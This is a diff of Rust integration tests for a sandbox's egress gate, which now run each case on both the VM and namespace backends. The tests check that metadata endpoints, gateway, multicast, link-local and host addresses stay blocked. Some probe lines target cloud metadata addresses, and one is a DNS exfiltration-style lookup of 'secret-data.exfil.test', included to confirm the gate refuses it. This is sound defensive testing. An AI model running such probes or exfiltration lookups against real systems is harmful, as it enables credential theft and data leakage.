@@ -1,4 +1,6 @@
-//! The egress gate with real QEMU (tcg) and passt: host services, metadata,
+//! The egress gate on each backend (`vm::`: QEMU under TCG, frames from its
+//! -netdev stream; `namespace::`: frames from the sandbox's tap) and passt:
+//! host services, metadata,
 //! CIDR/port rules against test hosts in network namespaces this test
 //! creates (veth, TEST-NET-2 (TEST-NET-3 is where this sandbox puts the
 //! package registries) and 2001:db8:7::/64), guarded addresses (multicast,
@@ -6,30 +8,46 @@
 //! against the test's own DNS server, the DNS flood bound, and the audit log.
 
 mod common;
+#[macro_use]
+mod backends;
 mod netlab;
 
+use backends::*;
 use netlab::*;
 use std::net::{IpAddr, UdpSocket};
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
 
-#[test]
-fn test_net_host_port_rule_and_guarded_addresses() {
+backend_tests! {
+    both: [
+        test_net_host_port_rule_and_guarded_addresses,
+        test_net_full_still_blocks_metadata_and_gateway,
+        test_net_cidr_port_rules_v4_v6_and_embedded_v4,
+        test_net_domain_rules_nxdomain_without_upstream_query_and_rebinding,
+        test_net_bad_rules_are_rejected_by_name,
+        test_net_full_guards_multicast_unless_named_and_dhcp_still_works,
+        test_net_full_guards_link_local_unless_named,
+        test_net_host_address_in_allow_cidr_stays_blocked_and_cordon_says_so,
+        test_net_host_address_added_mid_run_is_guarded,
+        test_net_ipv6_works_with_tcp_only_rules_and_icmp_stays_judged,
+    ],
+}
+
+fn test_net_host_port_rule_and_guarded_addresses(b: Backend) {
     let a = serve("127.0.0.1:0", "from-A");
-    let b = serve("127.0.0.1:0", "from-B");
+    let b_port = serve("127.0.0.1:0", "from-B");
     let any = serve("0.0.0.0:0", "from-any");
     let hv4 = host_v4();
     let log = tempfile::NamedTempFile::new().unwrap();
     let script = [
         probe("A", "10.0.2.2", a),
-        probe("B", "10.0.2.2", b),
+        probe("B", "10.0.2.2", b_port),
         probe("HOSTADDR", &hv4, any),
         probe("META", "169.254.169.254", 80),
         probe("LOOP", "127.0.0.1", a),
     ]
     .concat();
-    let (code, out, err) =
-        run_vm(&["--allow", &format!("host:{a}"), "--net-log", log.path().to_str().unwrap()], &script);
+    let (code, out, err) = b.sh(&["--allow", &format!("host:{a}"), "--net-log", log.path().to_str().unwrap()], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("A:ok:from-A"), "allowed host service not reached: {out}");
     assert!(out.contains("B:refused"), "other host port must be refused at once (RST): {out}");
@@ -42,27 +60,25 @@ fn test_net_host_port_rule_and_guarded_addresses() {
     let la = find(a).expect("audit line for the allowed flow");
     assert_eq!((la["verdict"].as_str(), la["rule"].as_str()), (Some("allow"), Some(format!("host:{a}").as_str())));
     assert!(la["bytes_in"].as_u64().unwrap() > 0);
-    assert_eq!(find(b).expect("audit line for the denied flow")["verdict"], "deny");
+    assert_eq!(find(b_port).expect("audit line for the denied flow")["verdict"], "deny");
     let summary = lines.last().unwrap();
     assert_eq!(summary["summary"], true);
     assert!(summary["flows_denied"].as_u64().unwrap() >= 3, "{summary}");
 }
 
-#[test]
-fn test_net_full_still_blocks_metadata_and_gateway() {
+fn test_net_full_still_blocks_metadata_and_gateway(b: Backend) {
     let a = serve("127.0.0.1:0", "secret-service");
     let script =
         [probe("GW", "10.0.2.2", a), probe("META", "169.254.169.254", 80), probe("ALI", "100.100.100.200", 80)]
             .concat();
-    let (code, out, err) = run_vm(&["--net", "full"], &script);
+    let (code, out, err) = b.sh(&["--net", "full"], &script);
     assert_eq!(code, 0, "{err}");
     for n in ["GW", "META", "ALI"] {
         assert!(out.contains(&format!("{n}:refused")), "{n} reachable with --net full: {out}");
     }
 }
 
-#[test]
-fn test_net_cidr_port_rules_v4_v6_and_embedded_v4() {
+fn test_net_cidr_port_rules_v4_v6_and_embedded_v4(b: Backend) {
     let _g = NETNS.lock().unwrap_or_else(|e| e.into_inner());
     let _host = TestHost::new();
     let log = tempfile::NamedTempFile::new().unwrap();
@@ -73,7 +89,7 @@ fn test_net_cidr_port_rules_v4_v6_and_embedded_v4() {
         probe("V6B", "2001:db8:7::2", 8082),
     ]
     .concat();
-    let (code, out, err) = run_vm(
+    let (code, out, err) = b.sh(
         &[
             "--allow",
             "198.51.100.2:8081",
@@ -101,7 +117,7 @@ fn test_net_cidr_port_rules_v4_v6_and_embedded_v4() {
     ]
     .concat();
     let (code, out, err) =
-        run_vm(&["--net", "full", "--deny", "198.51.100.0/24", "--net-log", log2.path().to_str().unwrap()], &script);
+        b.sh(&["--net", "full", "--deny", "198.51.100.0/24", "--net-log", log2.path().to_str().unwrap()], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("DENY4:refused"), "{out}");
     assert!(out.contains("NAT64:refused"), "{out}");
@@ -138,8 +154,7 @@ fn dns_server(
     (addr, seen, count)
 }
 
-#[test]
-fn test_net_domain_rules_nxdomain_without_upstream_query_and_rebinding() {
+fn test_net_domain_rules_nxdomain_without_upstream_query_and_rebinding(b: Backend) {
     let _g = NETNS.lock().unwrap_or_else(|e| e.into_inner());
     let _host = TestHost::new();
     let (dns, seen, _count) =
@@ -149,10 +164,8 @@ fn test_net_domain_rules_nxdomain_without_upstream_query_and_rebinding() {
                   nslookup secret-data.exfil.test 10.0.2.3 > /tmp/nx 2>&1; grep -qi 'NXDOMAIN\\|can.t find' /tmp/nx && echo NXDOMAIN; \
                   nslookup rebind.allowed.test 10.0.2.3 > /tmp/rb 2>&1; grep -q 10.1.2.3 /tmp/rb && echo REBOUND; ";
     let script = format!("{script}{}{}", probe("NAMED", "198.51.100.2", 8081), probe("NAMEDB", "198.51.100.2", 8082));
-    let mut full =
-        vec!["run", "--accel", "tcg", "--allow", "*.allowed.test:8081", "--net-log", log.path().to_str().unwrap()];
-    full.extend_from_slice(&["--", "sh", "-c", &script]);
-    let out = cordon().env("CORDON_DNS_UPSTREAM", dns.to_string()).args(full).output().unwrap();
+    let args = ["--allow", "*.allowed.test:8081", "--net-log", log.path().to_str().unwrap(), "--", "sh", "-c", &script];
+    let out = b.run(&args).env("CORDON_DNS_UPSTREAM", dns.to_string()).output().unwrap();
     let (stdout, stderr) = (String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
     assert_eq!(out.status.code(), Some(0), "{stderr}");
     assert!(stdout.contains("RESOLVED"), "allowed name did not resolve: {stdout}");
@@ -168,15 +181,17 @@ fn test_net_domain_rules_nxdomain_without_upstream_query_and_rebinding() {
     assert!(text.contains("rebinding"), "{text}");
 }
 
-#[test]
-fn test_net_bad_rules_are_rejected_by_name() {
-    let out = cordon().args(["run", "--accel", "tcg", "--allow", "10.0.0.0/99", "--", "true"]).output().unwrap();
-    assert_eq!(out.status.code(), Some(120));
-    let err = String::from_utf8_lossy(&out.stderr);
+fn test_net_bad_rules_are_rejected_by_name(b: Backend) {
+    let (code, out, err) = text(&b.output(&["--allow", "10.0.0.0/99", "--", "echo", "ran"]));
+    assert_eq!(code, 120, "{err}");
     assert!(err.contains("10.0.0.0/99"), "{err}");
-    let out =
-        cordon().args(["run", "--accel", "tcg", "--net", "none", "--allow", "host:80", "--", "true"]).output().unwrap();
-    assert_eq!(out.status.code(), Some(120));
+    assert!(!out.contains("ran"), "{out}");
+    let (code, out, err) = text(&b.output(&["--net", "none", "--allow", "host:80", "--", "echo", "ran"]));
+    assert_eq!(code, 120, "{err}");
+    assert!(!out.contains("ran"), "{out}");
+    // Positive control: a good rule runs.
+    let (code, out, err) = text(&b.output(&["--allow", "10.0.0.0/8", "--", "echo", "ran"]));
+    assert_eq!((code, out.as_str()), (0, "ran\n"), "{err}");
 }
 
 /// File names of the TFTP read requests queued on `sock` (one datagram
@@ -192,8 +207,7 @@ fn tftp_names(sock: &UdpSocket) -> Vec<String> {
     names
 }
 
-#[test]
-fn test_net_full_guards_multicast_unless_named_and_dhcp_still_works() {
+fn test_net_full_guards_multicast_unless_named_and_dhcp_still_works(b: Backend) {
     // cordon runs in a namespace of its own: a multicast datagram that got
     // past the gate would reach this socket (bound to every address, as a
     // host service would be) and no real network.
@@ -202,51 +216,57 @@ fn test_net_full_guards_multicast_unless_named_and_dhcp_still_works() {
     let port = sink.local_addr().unwrap().port();
     // The guarded datagram first, then a marker through an allowed host port:
     // once the marker is here, the multicast one would be too.
+    // DHCP only where a step can run a client (the VM; in namespaces ns-init
+    // configures the tap and steps have no packet sockets).
+    let dhcp = if b.dhcp_in_step() {
+        format!("udhcpc -i {} -n -q -t 3 -T 1 -s /bin/true >/dev/null 2>&1 && echo DHCP:ok; ", b.nic())
+    } else {
+        String::new()
+    };
     let script = format!(
         "timeout 2 tftp -g -l /tmp/a -r MULTI 224.0.0.1 {port} 2>/dev/null; \
-         timeout 2 tftp -g -l /tmp/b -r MARK 10.0.2.2 {port} 2>/dev/null; \
-         udhcpc -i eth0 -n -q -t 3 -T 1 -s /bin/true >/dev/null 2>&1 && echo DHCP:ok; echo done"
+         timeout 2 tftp -g -l /tmp/b -r MARK 10.0.2.2 {port} 2>/dev/null; {dhcp}echo done"
     );
     let host_rule = format!("udp/host:{port}");
-    let (code, out, err) = ns.run_vm(&["--net", "full", "--allow", &host_rule], &script);
+    let (code, out, err) = ns.run(b, &["--net", "full", "--allow", &host_rule], &script);
     assert_eq!(code, 0, "{err}");
     let names = tftp_names(&sink);
     assert!(names.iter().any(|n| n == "MARK"), "the marker did not arrive: {names:?} {out}");
-    assert!(!names.iter().any(|n| n == "MULTI"), "multicast from the guest reached a host socket: {names:?}");
-    assert!(out.contains("DHCP:ok"), "the guest's DHCP with passt must keep working: {out}");
+    assert!(!names.iter().any(|n| n == "MULTI"), "multicast from the sandbox reached a host socket: {names:?}");
+    if b.dhcp_in_step() {
+        assert!(out.contains("DHCP:ok"), "the guest's DHCP with passt must keep working: {out}");
+    }
 
     // Positive control: the same probe arrives when a rule names the group.
     let group_rule = format!("udp/224.0.0.1:{port}");
-    let (code, _out, err) = ns.run_vm(&["--net", "full", "--allow", &host_rule, "--allow", &group_rule], &script);
+    let (code, _out, err) = ns.run(b, &["--net", "full", "--allow", &host_rule, "--allow", &group_rule], &script);
     assert_eq!(code, 0, "{err}");
     let names = tftp_names(&sink);
     assert!(names.iter().any(|n| n == "MULTI"), "an explicitly allowed group must be reachable: {names:?}");
 }
 
-#[test]
-fn test_net_full_guards_link_local_unless_named() {
+fn test_net_full_guards_link_local_unless_named(b: Backend) {
     let _g = NETNS.lock().unwrap_or_else(|e| e.into_inner());
     let _host = TestHost::new();
     let script = [probe("LL", "169.254.77.2", 8081), probe("V4", "198.51.100.2", 8081)].concat();
-    let (code, out, err) = run_vm(&["--net", "full"], &script);
+    let (code, out, err) = b.sh(&["--net", "full"], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("LL:refused"), "link-local reachable with --net full: {out}");
     assert!(out.contains("V4:ok:port8081"), "an ordinary test host must stay reachable: {out}");
-    let (code, out, err) = run_vm(&["--net", "full", "--allow", "0.0.0.0/0", "--allow", "169.0.0.0/8"], &script);
+    let (code, out, err) = b.sh(&["--net", "full", "--allow", "0.0.0.0/0", "--allow", "169.0.0.0/8"], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("LL:refused"), "a wide CIDR must not open link-local: {out}");
     // Positive control: a rule naming the address opens it.
-    let (code, out, err) = run_vm(&["--net", "full", "--allow", "169.254.77.2:8081"], &script);
+    let (code, out, err) = b.sh(&["--net", "full", "--allow", "169.254.77.2:8081"], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("LL:ok:port8081"), "{out}");
 }
 
-#[test]
-fn test_net_host_address_in_allow_cidr_stays_blocked_and_cordon_says_so() {
+fn test_net_host_address_in_allow_cidr_stays_blocked_and_cordon_says_so(b: Backend) {
     let ns = Netns::new("ha");
     let port = serve_on(ns.tcp_listener("0.0.0.0:0"), "from-host");
     let script = probe("HOST", "198.51.100.9", port);
-    let (code, out, err) = ns.run_vm(&["--allow", "198.51.100.0/24"], &script);
+    let (code, out, err) = ns.run(b, &["--allow", "198.51.100.0/24"], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("HOST:refused"), "a CIDR holding the host's address opened it: {out}");
     assert!(
@@ -255,7 +275,7 @@ fn test_net_host_address_in_allow_cidr_stays_blocked_and_cordon_says_so() {
         "cordon run must say that the host's address stays blocked: {err}"
     );
     // Positive control: the exact address opens it, without the warning.
-    let (code, out, err) = ns.run_vm(&["--allow", "198.51.100.9"], &script);
+    let (code, out, err) = ns.run(b, &["--allow", "198.51.100.9"], &script);
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("HOST:ok:from-host"), "{out}");
     assert!(!err.contains("stays blocked"), "{err}");
@@ -278,8 +298,7 @@ fn add_address_on_connect(ns: &Netns, addr: &'static str) -> u16 {
     port
 }
 
-#[test]
-fn test_net_host_address_added_mid_run_is_guarded() {
+fn test_net_host_address_added_mid_run_is_guarded(b: Backend) {
     let ns = Netns::new("hr");
     let port = serve_on(ns.tcp_listener("0.0.0.0:0"), "from-host");
     // The guest waits for the address to exist, then probes it (a few times:
@@ -294,13 +313,14 @@ fn test_net_host_address_added_mid_run_is_guarded() {
     };
     let sync = add_address_on_connect(&ns, "198.51.100.77/32");
     let (code, out, err) =
-        ns.run_vm(&["--net", "full", "--allow", &format!("host:{sync}")], &script("198.51.100.77", sync, "*refused"));
+        ns.run(b, &["--net", "full", "--allow", &format!("host:{sync}")], &script("198.51.100.77", sync, "*refused"));
     assert_eq!(code, 0, "{err}");
     assert!(out.contains("SYNC:go"), "{out}");
     assert!(out.contains("NEW:refused"), "an address the host gained mid-run stayed open: {out}");
     // Positive control: the same probe gets through when a rule names the address.
     let sync = add_address_on_connect(&ns, "198.51.100.78/32");
-    let (code, out, err) = ns.run_vm(
+    let (code, out, err) = ns.run(
+        b,
         &["--net", "full", "--allow", &format!("host:{sync}"), "--allow", "198.51.100.78"],
         &script("198.51.100.78", sync, "*:ok:*"),
     );
@@ -432,8 +452,7 @@ fn icmp_verdicts(log: &std::path::Path, dst: &str) -> Vec<String> {
         .collect()
 }
 
-#[test]
-fn test_net_ipv6_works_with_tcp_only_rules_and_icmp_stays_judged() {
+fn test_net_ipv6_works_with_tcp_only_rules_and_icmp_stays_judged(b: Backend) {
     let _g = NETNS.lock().unwrap_or_else(|e| e.into_inner());
     let _host = TestHost::new();
     // No rule allows ICMP: echo requests are refused by the gate, yet the
@@ -446,7 +465,7 @@ fn test_net_ipv6_works_with_tcp_only_rules_and_icmp_stays_judged() {
     );
     let log = tempfile::NamedTempFile::new().unwrap();
     let log_arg = log.path().to_str().unwrap();
-    let (code, out, err) = run_vm(
+    let (code, out, err) = b.sh(
         &["--allow", "tcp/[2001:db8:7::2]:8081", "--allow", "tcp/198.51.100.2:8081", "--net-log", log_arg],
         &script,
     );
@@ -463,7 +482,7 @@ fn test_net_ipv6_works_with_tcp_only_rules_and_icmp_stays_judged() {
     let log = tempfile::NamedTempFile::new().unwrap();
     let log_arg = log.path().to_str().unwrap();
     let (code, _out, err) =
-        run_vm(&["--allow", "icmp/198.51.100.2", "--allow", "icmp/[2001:db8:7::2]", "--net-log", log_arg], &script);
+        b.sh(&["--allow", "icmp/198.51.100.2", "--allow", "icmp/[2001:db8:7::2]", "--net-log", log_arg], &script);
     assert_eq!(code, 0, "{err}");
     for dst in ["198.51.100.2", "2001:db8:7::2"] {
         let v = icmp_verdicts(log.path(), dst);
